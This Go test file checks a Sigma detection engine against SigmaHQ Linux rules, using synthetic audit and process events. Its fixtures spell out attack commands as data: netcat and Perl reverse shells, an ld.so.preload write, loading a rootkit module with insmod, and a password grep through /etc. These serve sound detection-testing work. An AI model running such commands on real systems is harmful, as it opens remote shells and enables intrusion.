package sigma

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/lineaged/lineaged/event"
)

// publicRules are the SigmaHQ Linux rules the repository's shared test data
// holds (rules/linux/{process_creation,auditd/...}).
const publicRules = "../../shared/testdata/public/sigma/rules/linux"

func loadPublic(tb testing.TB) *Set {
	tb.Helper()
	if _, err := os.Stat(publicRules); err != nil {
		tb.Skipf("public Sigma rules not found: %v", err)
	}
	s, err := Load(publicRules)
	if err != nil {
		tb.Fatal(err)
	}
	return s
}

func TestLoadPublic(t *testing.T) {
	s := loadPublic(t)
	n := map[string]int{}
	for _, r := range s.Rules() {
		n[r.Logsource]++
		if r.ID == "" || r.Title == "" || r.Path == "" {
			t.Errorf("rule without id, title or path: %+v", r)
		}
	}
	reasons := map[string]int{}
	for _, sk := range s.Skipped() {
		if sk.Reason == "" || strings.Contains(sk.Reason, "\n") {
			t.Errorf("%s: bad reason %q", sk.Path, sk.Reason)
		}
		reasons[sk.Reason]++
	}
	files := map[string]int{}
	filepath.WalkDir(publicRules, func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(p, ".yml") {
			files[strings.Split(filepath.ToSlash(p[len(publicRules)+1:]), "/")[0]]++
		}
		return nil
	})
	t.Logf("files: %v; loaded: process_creation %d, auditd %d; skipped %d %v",
		files, n[lsProcess], n[lsAuditd], len(s.Skipped()), reasons)
	// Every public Linux rule only uses fields lineaged supplies; allow a
	// few future ones that do not.
	for _, ls := range []string{lsProcess, lsAuditd} {
		if files[ls] == 0 || n[ls] < files[ls]*9/10 {
			t.Errorf("%s: loaded %d of %d files", ls, n[ls], files[ls])
		}
	}
	if len(s.Rules())+len(s.Skipped()) != files[lsProcess]+files[lsAuditd] {
		t.Errorf("%d loaded + %d skipped, want %v files", len(s.Rules()), len(s.Skipped()), files)
	}
	if !slices.IsSortedFunc(s.Rules(), func(a, b RuleInfo) int { return strings.Compare(a.Path, b.Path) }) {
		t.Error("Rules not sorted by path")
	}
}

func ruleByID(t *testing.T, s *Set, id string) RuleInfo {
	t.Helper()
	for _, r := range s.Rules() {
		if r.ID == id {
			return r
		}
	}
	t.Fatalf("rule %s not loaded", id)
	return RuleInfo{}
}

func TestRuleInfo(t *testing.T) {
	s := loadPublic(t)
	r := ruleByID(t, s, "7f734ed0-4f47-46c0-837f-6ee62505abd9") // netcat reverse shell
	if r.Severity != 3 || r.Level != "high" || r.Logsource != lsProcess || !slices.Equal(r.Techniques, []string{"T1059"}) {
		t.Errorf("netcat reverse shell: %+v", r)
	}
	r = ruleByID(t, s, "1543ae20-cbdf-4ec1-8d12-7664d667a825") // auditd suspicious commands
	if r.Severity != 2 || r.Logsource != lsAuditd || !slices.Equal(r.Techniques, []string{"T1059.004"}) {
		t.Errorf("susp cmds: %+v", r)
	}
}

// fileEvent is a file syscall as audit.Normalizer builds it.
func fileEvent(action event.Action, syscall, path, nametype string) *event.Event {
	e := execEvent("/usr/bin/vim", "vim")
	e.Category, e.Type, e.Action = "file", "change", action
	e.Process.Args, e.Process.Title = nil, "vim "+path
	e.Parent = nil
	e.File = &event.File{Path: path, Operation: "write", NameType: nametype}
	e.Audit.Syscall = syscall
	e.Audit.RecordTypes = []string{"SYSCALL", "CWD", "PATH", "PATH", "PROCTITLE"}
	return e
}

func TestMatch(t *testing.T) {
	s := loadPublic(t)
	withParent := func(e *event.Event, args ...string) *event.Event {
		e.Parent.Args = args
		return e
	}
	root := func(e *event.Event) *event.Event {
		e.User = event.User{ID: "0", EffectiveID: "0", AuditID: "0"} // no name: uid 0 reads as root
		e.Process.WorkingDirectory = "/var/opt/microsoft/scx/tmp"
		return e
	}
	euid := func(e *event.Event, id string) *event.Event { e.User.EffectiveID = id; return e }
	comm := func(e *event.Event, c string) *event.Event { e.Process.Name = c; return e }
	syscall := func(name string, data ...event.KV) *event.Event {
		e := execEvent("/usr/bin/dmesg", "dmesg", "-C")
		e.Category, e.Type, e.Action = "process", "info", event.Action(name) // a syscall lineaged does not classify
		e.Process.Args, e.File = nil, nil
		e.Audit.Syscall = name
		e.Audit.RecordTypes = []string{"SYSCALL", "PROCTITLE"}
		e.Audit.Data = data
		return e
	}
	serviceStop := func(unit string) *event.Event {
		return &event.Event{Category: "process", Type: "end", Action: "stopped-service", Outcome: "success", Module: "auditd",
			Process: event.Process{PID: 1, Executable: "/usr/lib/systemd/systemd", Name: "systemd"},
			User:    event.User{ID: "0", AuditID: "unset"},
			Audit:   &event.Audit{RecordTypes: []string{"SERVICE_STOP"}, Result: "success", Data: []event.KV{{Key: "unit", Value: unit}}}}
	}
	failed := func(e *event.Event) *event.Event { e.Outcome, e.Audit.ExitValue = "failure", "ENOENT"; return e }
	procSource := func(e *event.Event) *event.Event { e.Module, e.Audit, e.File = "proc", nil, nil; return e }

	tests := []struct {
		name  string
		e     *event.Event
		id    string
		match bool
	}{
		// process_creation
		{"nc reverse shell", execEvent("/usr/bin/nc", "nc", "-e", "/bin/bash", "10.0.0.1", "4444"), "7f734ed0-4f47-46c0-837f-6ee62505abd9", true},
		{"nc reverse shell, proc connector", procSource(execEvent("/usr/bin/nc", "nc", "-e", "/bin/bash", "10.0.0.1", "4444")), "7f734ed0-4f47-46c0-837f-6ee62505abd9", true},
		{"nc listening", execEvent("/usr/bin/nc", "nc", "-l", "4444"), "7f734ed0-4f47-46c0-837f-6ee62505abd9", false},
		{"nc reverse shell, failed exec", failed(execEvent("/usr/bin/nc", "nc", "-e", "/bin/bash", "10.0.0.1", "4444")), "7f734ed0-4f47-46c0-837f-6ee62505abd9", false},
		{"perl reverse shell", execEvent("/usr/bin/perl", "perl", "-e", `use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};`), "259df6bc-003f-4306-9f54-4ff1a08fa38e", true},
		{"whoami under bash -i", withParent(execEvent("/usr/bin/whoami", "whoami"), "bash", "-i"), "ea3ecad2-db86-4a89-ad0b-132a10d2db55", true},
		{"whoami under login bash", execEvent("/usr/bin/whoami", "whoami"), "ea3ecad2-db86-4a89-ad0b-132a10d2db55", false},
		{"omigod shell as root", root(execEvent("/bin/sh", "/bin/sh", "-c", "id")), "21541900-27a9-4454-9c4c-3f0a4240344a", true},
		{"omigod shell as alice", execEvent("/bin/sh", "/bin/sh", "-c", "id"), "21541900-27a9-4454-9c4c-3f0a4240344a", false},

		// auditd EXECVE (a0..aN are argv)
		{"chmod 777", execEvent("/usr/bin/chmod", "chmod", "777", "/tmp/x"), "1543ae20-cbdf-4ec1-8d12-7664d667a825", true},
		{"chmod 755", execEvent("/usr/bin/chmod", "chmod", "755", "/tmp/x"), "1543ae20-cbdf-4ec1-8d12-7664d667a825", false},
		{"chmod 777, proc connector (no EXECVE record)", procSource(execEvent("/usr/bin/chmod", "chmod", "777", "/tmp/x")), "1543ae20-cbdf-4ec1-8d12-7664d667a825", false},
		{"vim hidden file (re)", execEvent("/usr/bin/vim", "vim", "/tmp/.hidden"), "d08722cd-3d09-449a-80b4-83ea2d9d4616", true},
		{"vim plain file (re)", execEvent("/usr/bin/vim", "vim", "notes.txt"), "d08722cd-3d09-449a-80b4-83ea2d9d4616", false},
		{"iptables redirect (keywords)", execEvent("/usr/sbin/iptables", "iptables", "-t", "nat", "-A", "PREROUTING", "-p", "tcp", "-j", "REDIRECT", "--to-ports", "42391"), "70b4156e-50fc-4523-aa50-c9dddf1993fc", true},
		{"iptables other redirect (keywords)", execEvent("/usr/sbin/iptables", "iptables", "-t", "nat", "-A", "PREROUTING", "-j", "REDIRECT", "--to-ports", "8080"), "70b4156e-50fc-4523-aa50-c9dddf1993fc", false},
		{"grep password (|all keywords)", execEvent("/usr/bin/grep", "grep", "-ri", "password", "/etc"), "df3fcaea-2715-4214-99c5-0056ea59eb35", true},
		{"grep user (|all keywords)", execEvent("/usr/bin/grep", "grep", "-ri", "user", "/etc"), "df3fcaea-2715-4214-99c5-0056ea59eb35", false},

		// auditd PATH (name is file.path)
		{"ld.so.preload written", fileEvent("wrote-to-file", "openat", "/etc/ld.so.preload", "NORMAL"), "4b3cb710-5e83-4715-8c45-8b2b5b3e5751", true},
		{"ld.so.conf written", fileEvent("wrote-to-file", "openat", "/etc/ld.so.conf", "NORMAL"), "4b3cb710-5e83-4715-8c45-8b2b5b3e5751", false},
		{"user .bashrc (wildcard)", fileEvent("wrote-to-file", "openat", "/home/bob/.bashrc", "NORMAL"), "a94cdd87-6c54-4678-a6cc-2814ffe5a13d", true},
		{"user .bashrc.bak (wildcard)", fileEvent("wrote-to-file", "openat", "/home/bob/.bashrc.bak", "NORMAL"), "a94cdd87-6c54-4678-a6cc-2814ffe5a13d", false},
		{"systemd unit created", fileEvent("created", "openat", "/etc/systemd/system/evil.service", "CREATE"), "1bac86ba-41aa-4f62-9d6b-405eac99b485", true},
		{"systemd unit rewritten", fileEvent("wrote-to-file", "openat", "/etc/systemd/system/evil.service", "NORMAL"), "1bac86ba-41aa-4f62-9d6b-405eac99b485", false},

		// auditd SYSCALL
		{"exec as www-data (euid: 33)", euid(execEvent("/bin/sh", "sh", "-c", "id"), "33"), "c0d3734d-330f-4a03-aae2-65dacc6a8222", true},
		{"exec as alice (euid: 33)", execEvent("/bin/sh", "sh", "-c", "id"), "c0d3734d-330f-4a03-aae2-65dacc6a8222", false},
		{"insmod (comm, exe)", comm(execEvent("/usr/bin/kmod", "insmod", "rootkit.ko"), "insmod"), "106d7cbd-80ff-4985-b682-a7043e5acb72", true},
		{"modprobe (comm, exe)", comm(execEvent("/usr/bin/kmod", "modprobe", "nf_tables"), "modprobe"), "106d7cbd-80ff-4985-b682-a7043e5acb72", false},
		{"exe in /home/*/public_html (startswith wildcard)", execEvent("/home/bob/public_html/x", "./x"), "a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc", true},
		{"exe in /home/bob/bin", execEvent("/home/bob/bin/x", "x"), "a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc", false},
		{"syslog clear (a0 is the syscall argument)", syscall("syslog", event.KV{Key: "a0", Value: "5"}), "eca5e022-d368-4043-98e5-9736fb01f72f", true},
		{"syslog read", syscall("syslog", event.KV{Key: "a0", Value: "3"}), "eca5e022-d368-4043-98e5-9736fb01f72f", false},

		// auditd user-space records
		{"ufw stopped", serviceStop("ufw"), "53059bc0-1472-438b-956a-7508a94a91f0", true},
		{"cron stopped", serviceStop("cron"), "53059bc0-1472-438b-956a-7508a94a91f0", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ruleByID(t, s, tt.id)
			var got []string
			hit := false
			for _, m := range s.Match(tt.e) {
				got = append(got, filepath.Base(m.Path))
				hit = hit || m.ID == tt.id
			}
			if hit != tt.match {
				t.Errorf("rule %s matched %v, want %v (matches: %v)", tt.id, hit, tt.match, got)
			}
		})
	}
}

func TestProcessCreationOnlyOnExec(t *testing.T) {
	s := loadPublic(t)
	e := execEvent("/usr/bin/nc", "nc", "-e", "/bin/bash", "10.0.0.1", "4444")
	e.Category, e.Action = "network", "connected-to"
	e.File = nil
	e.Audit.Syscall, e.Audit.RecordTypes = "connect", []string{"SYSCALL", "SOCKADDR", "PROCTITLE"}
	for _, m := range s.Match(e) {
		if m.Logsource == lsProcess {
			t.Errorf("process_creation rule %s matched a %s event", m.Path, e.Action)
		}
	}
	e = execEvent("/usr/bin/nc", "nc", "-e", "/bin/bash", "10.0.0.1", "4444")
	e.Kind = event.KindAlert
	if m := s.Match(e); m != nil {
		t.Errorf("an alert matched %v", m)
	}
}

// TestBenign runs common commands. Several low or informational SigmaHQ
// rules describe plain discovery (id, uname, hostname, cat /etc/passwd,
// crontab -l, chmod, tar) and fire on them by design; `ls -l` must match
// nothing.
func TestBenign(t *testing.T) {
	s := loadPublic(t)
	want := map[string][]string{
		"ls -l":                   nil,
		"ls -la /tmp":             nil,
		"git status":              nil,
		"ps aux":                  nil,
		"make":                    nil,
		"ssh host":                nil,
		"systemctl status ssh":    nil,
		"grep -r foo .":           nil,
		"wget https://x/y.tar.gz": nil,
		"id":                      {"lnx_auditd_user_discovery.yml", "proc_creation_lnx_local_account.yml"},
		"uname -a":                {"lnx_auditd_system_info_discovery.yml", "lnx_auditd_user_discovery.yml", "proc_creation_lnx_system_info_discovery.yml"},
		"cat /etc/passwd":         {"proc_creation_lnx_local_account.yml"},
		"chmod +x run.sh":         {"lnx_auditd_file_or_folder_permissions.yml"},
		"tar -czf a.tgz dir":      {"lnx_auditd_data_compressed.yml"},
		"crontab -l":              {"proc_creation_lnx_crontab_enumeration.yml"},
		"curl -sS https://x":      {"proc_creation_lnx_curl_usage.yml"},
	}
	for cmd, w := range want {
		args := strings.Fields(cmd)
		e := execEvent("/usr/bin/"+args[0], args...)
		var got []string
		for _, m := range s.Match(e) {
			got = append(got, filepath.Base(m.Path))
			if m.Severity > 2 {
				t.Errorf("%s: %s has severity %d", cmd, m.Path, m.Severity)
			}
		}
		slices.Sort(got)
		if !slices.Equal(got, w) {
			t.Errorf("%s: matched %v, want %v", cmd, got, w)
		}
	}
}

func writeRule(t *testing.T, dir, name, text string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

const okRule = `title: ok
id: 00000000-0000-0000-0000-000000000001
level: high
tags: [attack.execution, attack.t1059.004, attack.T1105, attack.t1059.004, attack.g0001]
logsource: {product: linux, category: process_creation}
detection:
    sel:
        Image|endswith: /evil
        CommandLine|contains|all: [' -x', ' -y']
    filter:
        CommandLine|contains: -z
    condition: sel and not filter
`

func TestLoadSkips(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "00_ok.yml", okRule)
	detect := func(fields string) string {
		return "title: t\nlevel: low\nlogsource: {product: linux, category: process_creation}\ndetection:\n    sel:\n" + fields + "    condition: sel\n"
	}
	skips := map[string]string{
		"dup.yml":         okRule,
		"windows.yml":     "title: w\nlogsource: {product: windows, category: process_creation}\ndetection: {sel: {Image: x}, condition: sel}\n",
		"aggregation.yml": "title: a\nlogsource: {product: linux, service: auditd}\ndetection: {sel: {type: EXECVE}, condition: sel | count() > 5}\n",
		"field.yml":       detect("        OriginalFileName: x\n"),
		"modifier.yml":    detect("        CommandLine|base64offset|contains: x\n"),
		"regex.yml":       detect("        CommandLine|re: '(?=x)'\n"),
		"yaml.yml":        "title: [unclosed\n",
		"unknown.yml":     "title: u\nlogsource: {product: linux, service: auditd}\ndetection: {sel: {type: EXECVE}, condition: sel and other}\n",
		"pattern.yml":     "title: p\nlogsource: {product: linux, service: auditd}\ndetection: {sel: {type: EXECVE}, condition: 1 of filter_*}\n",
		"syscall.yml":     "title: s\nlogsource: {product: linux, service: auditd}\ndetection: {sel: {syscall: 59}, condition: sel}\n",
		"level.yml":       "title: l\nlevel: hgih\nlogsource: {product: linux, service: auditd}\ndetection: {sel: {type: EXECVE}, condition: sel}\n",
		"empty.yaml":      "",
		"timeframe.yml":   "title: t\nlogsource: {product: linux, service: auditd}\ndetection: {sel: {type: EXECVE}, timeframe: 5m, condition: sel | count() > 5}\n",
	}
	want := map[string]string{
		"dup.yml":         "duplicate rule id",
		"windows.yml":     `product="windows"`,
		"aggregation.yml": "aggregation",
		"field.yml":       "unsupported field OriginalFileName",
		"modifier.yml":    "unsupported modifier base64offset",
		"regex.yml":       "regular expression",
		"yaml.yml":        "cannot parse",
		"unknown.yml":     `unknown search "other"`,
		"pattern.yml":     "1 of filter_* names no search",
		"syscall.yml":     "syscall numbers",
		"level.yml":       "unknown level",
		"empty.yaml":      "not a Sigma rule",
		"timeframe.yml":   "timeframe",
	}
	for name, text := range skips {
		writeRule(t, dir, name, text)
	}
	writeRule(t, dir, "README.md", "not a rule")
	s, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Rules()) != 1 {
		t.Fatalf("loaded %v, want only 00_ok.yml", s.Rules())
	}
	r := s.Rules()[0]
	if r.Severity != 3 || !slices.Equal(r.Techniques, []string{"T1059.004", "T1105"}) {
		t.Errorf("ok rule: %+v", r)
	}
	got := map[string]string{}
	for _, sk := range s.Skipped() {
		got[filepath.Base(sk.Path)] = sk.Reason
		t.Logf("%s: %s", filepath.Base(sk.Path), sk.Reason)
	}
	for name, sub := range want {
		if !strings.Contains(got[name], sub) {
			t.Errorf("%s: reason %q, want it to mention %q", name, got[name], sub)
		}
	}
	if len(got) != len(want) {
		t.Errorf("skipped %d files, want %d", len(got), len(want))
	}
	for _, tc := range []struct {
		args  []string
		match bool
	}{
		{[]string{"evil", "-x", "-y"}, true},
		{[]string{"evil", "-X", "-Y"}, true}, // case-insensitive
		{[]string{"evil", "-x"}, false},      // |all
		{[]string{"evil", "-x", "-y", "-z"}, false},
	} {
		if got := len(s.Match(execEvent("/opt/evil", tc.args...))) == 1; got != tc.match {
			t.Errorf("%v: matched %v, want %v", tc.args, got, tc.match)
		}
	}
	if _, err := Load(filepath.Join(dir, "missing")); err == nil {
		t.Error("Load of a missing dir succeeded")
	}
}

// TestAuditdValues checks the value translations of auditd fields: a
// negative errno, the unset id, a null.
func TestAuditdValues(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "exit.yml", "title: exit\nlogsource: {product: linux, service: auditd}\ndetection: {sel: {type: SYSCALL, exit: -13, success: 'no'}, condition: sel}\n")
	writeRule(t, dir, "auid.yml", "title: auid\nlogsource: {product: linux, service: auditd}\ndetection: {sel: {auid: 4294967295, SYSCALL: execve, key: ~}, condition: sel}\n")
	s, err := Load(dir)
	if err != nil || len(s.Rules()) != 2 {
		t.Fatalf("%v %v %v", err, s.Rules(), s.Skipped())
	}
	e := fileEvent("opened-file", "openat", "/etc/shadow", "NORMAL")
	e.Outcome, e.Audit.ExitValue = "failure", "EACCES"
	if m := s.Match(e); len(m) != 1 || m[0].Title != "exit" {
		t.Errorf("EACCES: %v", m)
	}
	e = execEvent("/usr/sbin/cron", "cron")
	e.User.AuditID = "unset"
	if m := s.Match(e); len(m) != 1 || m[0].Title != "auid" {
		t.Errorf("auid unset: %v", m)
	}
	e.Audit.Keys = []string{"exec"}
	if m := s.Match(e); len(m) != 0 {
		t.Errorf("key: ~ matched an event with a key: %v", m)
	}
}

func TestWildcards(t *testing.T) {
	for _, tc := range []struct {
		pattern string
		op      cmpOp
		value   string
		match   bool
	}{
		{"/etc/*release", cmpEq, "/etc/os-release", true},
		{"/etc/*release", cmpEq, "/etc/os-release.bak", false},
		{"/etc/?sh", cmpEq, "/etc/zsh", true},
		{"/etc/?sh", cmpEq, "/etc/bash", false},
		{`a\*b`, cmpEq, "a*b", true},
		{`a\*b`, cmpEq, "axb", false},
		{`a\\*b`, cmpEq, `a\xxb`, true},
		{`C:\Windows`, cmpEq, `c:\windows`, true},
		{"/tmp/*", cmpPrefix, "/TMP/x/y", true},
		{"*.sh", cmpContains, "run.SH now", true},
		{"x*y", cmpSuffix, "axzzy", true},
		{"x*y", cmpSuffix, "axzzyz", false},
	} {
		vm, err := compileValue(tc.pattern, tc.op, false)
		if err != nil {
			t.Fatal(err)
		}
		v := tc.value
		if !vm.cased {
			v = fold(v)
		}
		if got := vm.match(v); got != tc.match {
			t.Errorf("%q op %d on %q: %v, want %v", tc.pattern, tc.op, tc.value, got, tc.match)
		}
	}
}

func benchEvents() []*event.Event {
	var evs []*event.Event
	for _, c := range []string{"ls -l", "git status", "cat /etc/hostname", "bash -c make", "python3 -m pip list", "nc -e /bin/sh 10.0.0.1 4444", "grep -r foo src"} {
		a := strings.Fields(c)
		evs = append(evs, execEvent("/usr/bin/"+a[0], a...))
	}
	for _, p := range []string{"/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/home/alice/.bashrc", "/tmp/build/out.o", "/proc/self/status", "/etc/passwd"} {
		evs = append(evs, fileEvent("opened-file", "openat", p, "NORMAL"))
	}
	conn := fileEvent("connected-to", "connect", "", "")
	conn.File, conn.Category = nil, "network"
	conn.Dest, conn.Network = &event.Endpoint{IP: "10.0.0.1", Port: 443}, &event.Network{Family: "ipv4", Direction: "egress"}
	evs = append(evs, conn, &event.Event{Action: "exited", Module: "proc", Process: event.Process{PID: 9, Executable: "/usr/bin/ls"}})
	return evs
}

// BenchmarkMatch is the cost per event over a mix of execs (half), file
// opens and other events, against every public rule.
func BenchmarkMatch(b *testing.B) {
	s := loadPublic(b)
	evs := benchEvents()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		s.Match(evs[i%len(evs)])
	}
}

func BenchmarkMatchExec(b *testing.B) {
	s := loadPublic(b)
	e := execEvent("/usr/bin/git", "git", "status", "--porcelain")
	b.ReportAllocs()
	for b.Loop() {
		s.Match(e)
	}
}

func TestConcurrentMatch(t *testing.T) {
	s := loadPublic(t)
	evs := benchEvents()
	want := make([]int, len(evs))
	for i, e := range evs {
		want[i] = len(s.Match(e))
	}
	done := make(chan bool)
	for g := 0; g < 4; g++ {
		go func() {
			defer func() { done <- true }()
			for i := 0; i < 200; i++ {
				if n := len(s.Match(evs[i%len(evs)])); n != want[i%len(evs)] {
					t.Errorf("event %d: %d matches, want %d", i%len(evs), n, want[i%len(evs)])
					return
				}
			}
		}()
	}
	for g := 0; g < 4; g++ {
		<-done
	}
}
